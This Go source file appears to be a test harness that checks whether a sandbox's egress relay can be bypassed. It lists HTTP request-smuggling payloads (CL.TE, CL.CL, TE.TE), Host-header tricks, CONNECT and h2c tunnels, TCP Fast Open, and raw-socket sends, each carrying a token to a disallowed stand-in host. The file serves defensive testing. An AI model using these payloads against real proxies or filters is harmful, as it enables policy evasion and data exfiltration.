// SPDX-License-Identifier: Apache-2.0

package bypass

import (
	"net/netip"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// relayed picks what the relay sends for a task.
func relayed(p packet) bool { return asked(p) || p.dst == shared4 && p.dport == httpPort }

// requests are plain HTTP to the address of an allowed name, for others.
func requests() []technique {
	const good = "GET / HTTP/1.1\r\nHost: good.test\r\n\r\n"
	// Each part is sent when the one before it has been answered; TOKEN is the
	// token.
	http := func(name, what string, parts ...string) technique {
		return technique{name: name, what: what, allow: named(), beside: relayed, stop: "relay", try: func(a *attempt) error {
			addr, err := a.lookUp("good.test.")
			if err != nil {
				return err
			}
			return tcpSocket(addr, func(a *attempt, s sock) error {
				if err := s.connect(at(addr, httpPort)); err != nil {
					return err
				}
				for _, part := range parts {
					if err := s.write([]byte(strings.ReplaceAll(part, "TOKEN", a.token))); err != nil {
						return err
					}
					if err := s.settled(patient); err != nil {
						return err
					}
				}
				return nil
			})(a)
		}}
	}
	after := func(name, what string, fn func(a *attempt, addr netip.Addr) error) technique {
		t := http(name, what)
		t.try = func(a *attempt) error {
			addr, err := a.lookUp("good.test.")
			if err != nil {
				return err
			}
			return fn(a, addr)
		}
		return t
	}
	const stolen = "GET /TOKEN HTTP/1.1\r\nHost: neighbour.test\r\n\r\n"
	raw := after("http-raw", "a segment to the real address by a raw socket", func(a *attempt, addr netip.Addr) error {
		return rawSegment(at(addr, httpPort), a.payload())
	})
	raw.class, raw.proof, raw.policy, raw.errno, raw.stop = netRaw, onWire, []string{"raw: allow"}, unix.EPERM, "egress"
	away := after("http-away", "a socket turned to the relay, disconnected and connected where no rule leads", func(a *attempt, addr netip.Addr) error {
		return tcpSocket(addr, func(a *attempt, s sock) error {
			if err := s.connect(at(addr, httpPort)); err != nil {
				return err
			}
			if err := s.disconnect(); err != nil {
				return err
			}
			return a.connectAndSend(s, at(denied4, deniedPort))
		})(a)
	})
	away.errno, away.stop = unix.EPERM, "connect"
	before := technique{
		name: "http-before", what: "a connection by address, from before the policy had the name alone", allow: []string{"198.51.100.80:80"}, beside: relayed, stop: "egress",
		try: tcpSocket(shared4, func(a *attempt, s sock) error {
			if err := s.connect(at(shared4, httpPort)); err != nil {
				return err
			}
			a.say("connected")
			if _, err := a.hear(); err != nil {
				return err
			}
			if _, err := a.lookUp("good.test."); err != nil {
				return err
			}
			if err := s.write([]byte(strings.ReplaceAll(stolen, "TOKEN", a.token))); err != nil {
				return err
			}
			return s.settled(patient)
		}), assist: func(t *trial) error {
			t.technique.allow = nil // the next policy
			return becomesNamed(t)
		},
	}
	return []technique{
		http("http-host", "another host", stolen),
		http("http-second", "another host in the second request of a connection", good, stolen),
		http("http-pipelined", "another host in the second of two requests at once", good+stolen),
		http("http-absolute", "another host in an absolute URI", "GET http://neighbour.test/TOKEN HTTP/1.1\r\nHost: good.test\r\n\r\n"),
		http("http-scheme", "another scheme in an absolute URI", "GET https://good.test/TOKEN HTTP/1.1\r\nHost: good.test\r\n\r\n"),
		http("http-two-hosts", "two hosts, the allowed one first", "GET /TOKEN HTTP/1.1\r\nHost: good.test\r\nHost: neighbour.test\r\n\r\n"),
		http("http-folded", "another host in a folded line", "GET /TOKEN HTTP/1.1\r\nHost: good.test\r\n neighbour.test\r\n\r\n"),
		http("http-space", "another host, with a space before the colon", "GET /TOKEN HTTP/1.1\r\nHost : neighbour.test\r\nHost: good.test\r\n\r\n"),
		http("http-no-host", "no host, HTTP/1.0", "GET /TOKEN HTTP/1.0\r\n\r\n"),
		http("http-address", "the address as the host", "GET /TOKEN HTTP/1.1\r\nHost: 198.51.100.80\r\n\r\n"),
		http("http-port", "an allowed host with another port", "GET /TOKEN HTTP/1.1\r\nHost: good.test:8080\r\n\r\n"),
		http("http-user", "an allowed host in front of another", "GET /TOKEN HTTP/1.1\r\nHost: good.test@neighbour.test\r\n\r\n"),
		http("http-lengths", "a request hidden between two lengths (CL.TE)", "POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+stolen),
		http("http-two-lengths", "a request hidden between two lengths (CL.CL)", "POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 0\r\nContent-Length: 70\r\n\r\n"+stolen),
		http("http-encoding", "a request hidden behind an encoding that nobody knows (TE.TE)", "POST / HTTP/1.1\r\nHost: good.test\r\nTransfer-Encoding: xchunked\r\n\r\n"+stolen),
		http("http-chunk", "a request hidden behind a chunk that cannot be read", "POST / HTTP/1.1\r\nHost: good.test\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n"+stolen),
		http("http-connect", "a tunnel (CONNECT)", "CONNECT good.test:80 HTTP/1.1\r\nHost: good.test\r\n\r\nTOKEN"),
		http("http-h2c", "HTTP/2 from the start", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nTOKEN"),
		http("http-upgrade", "an upgrade to HTTP/2, and what follows it", "GET / HTTP/1.1\r\nHost: good.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\nTOKEN"),
		http("http-tls", "no HTTP", "TOKEN\r\n\r\n"),
		http("http-continued", "another host after a body that was announced and not sent", "POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n", "12345"+stolen),
		after("http-fastopen", "another host on the SYN", func(a *attempt, addr netip.Addr) error {
			return tcpSocket(addr, func(a *attempt, s sock) error {
				if err := s.sendTo([]byte(strings.ReplaceAll(stolen, "TOKEN", a.token)), unix.MSG_FASTOPEN, at(addr, httpPort)); err != nil {
					return err
				}
				return s.settled(time.Second)
			})(a)
		}),
		raw, away, before,
	}
}

// rawSegment sends one with payload, of no connection.
func rawSegment(to netip.AddrPort, payload []byte) error {
	s, err := openFor(to.Addr(), unix.SOCK_RAW, unix.IPPROTO_TCP)
	if err != nil {
		return err
	}
	defer s.close()
	segment := []byte{0x9e, 0, byte(to.Port() >> 8), byte(to.Port()), 0, 0, 0, 1, 0, 0, 0, 1, 0x50, tcpPSH | tcpACK, 1, 0, 0, 0, 0, 0}
	return s.sendTo(append(segment, payload...), 0, at(to.Addr(), 0))
}
